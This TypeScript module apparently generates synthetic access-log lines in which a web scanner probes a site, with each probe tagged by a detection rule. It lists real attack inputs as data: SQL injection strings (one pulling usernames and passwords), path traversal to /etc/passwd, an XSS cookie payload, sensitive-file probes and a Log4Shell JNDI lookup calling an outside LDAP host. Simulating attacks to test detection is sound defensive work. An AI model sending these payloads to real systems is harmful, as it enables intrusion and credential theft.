import { accessLogLine } from '../access-log.ts'
import type { Random } from '../random.ts'
import { RULE } from '../rule-ids.ts'
import type { Step } from '../story.ts'
import { attackerAddress, BROWSERS } from '../world.ts'

const SCANNERS = [
  'sqlmap/1.9.4#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000561)',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'gobuster/3.8',
] as const

const PROBES = [
  { target: '/.env', status: 404, rules: [RULE.webSensitiveFile] },
  { target: '/.git/config', status: 403, rules: [RULE.webSensitiveFile] },
  { target: '/wp-config.php.bak', status: 404, rules: [RULE.webSensitiveFile] },
  { target: '/products?id=1%27%20OR%20%271%27=%271', status: 500, rules: [RULE.webSqlInjection] },
  {
    target: '/products?id=-1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--%20-',
    status: 200,
    rules: [RULE.webSqlInjection],
  },
  {
    target: "/search?q=1'+AND+(SELECT+1+FROM(SELECT+SLEEP(5))x)--+",
    status: 200,
    rules: [RULE.webSqlInjection],
  },
  { target: '/download?file=../../../../etc/passwd', status: 403, rules: [RULE.webPathTraversal] },
  {
    target: '/download?file=..%252f..%252f..%252fetc%252fpasswd',
    status: 200,
    rules: [RULE.webPathTraversal],
  },
  { target: '/static/%2e%2e/%2e%2e/%2e%2e/etc/hosts', status: 400, rules: [RULE.webPathTraversal] },
  {
    target: '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
    status: 200,
    rules: [RULE.webCrossSiteScripting],
  },
  { target: '/login?user=$%7Bjndi:ldap://203.0.113.66:1389/a%7D', status: 200, rules: [RULE.webJndiLookup] },
] as const

/** A scanner says its name at first, then hides behind a browser's; its probes go from files to injections. */
export function webScan(random: Random): Step[] {
  const client = attackerAddress(random)
  const scanner = random.pick(SCANNERS)
  const disguise = random.pick(BROWSERS)
  const request = (target: string, status: number, agent: string, rules: readonly string[]): Step => {
    const bytes = random.between(120, 4000)
    return {
      line: time_ms => accessLogLine(time_ms, { client, method: 'GET', target, status, bytes, agent }),
      rules,
    }
  }
  return [
    request('/', 200, scanner, [RULE.webScannerAgent]),
    request('/admin/', 404, scanner, [RULE.webScannerAgent]),
    ...PROBES.map(({ target, status, rules }) =>
      random.oneIn(4)
        ? request(target, status, scanner, [RULE.webScannerAgent, ...rules])
        : request(target, status, disguise, rules),
    ),
    request('/products', 200, disguise, []),
  ]
}
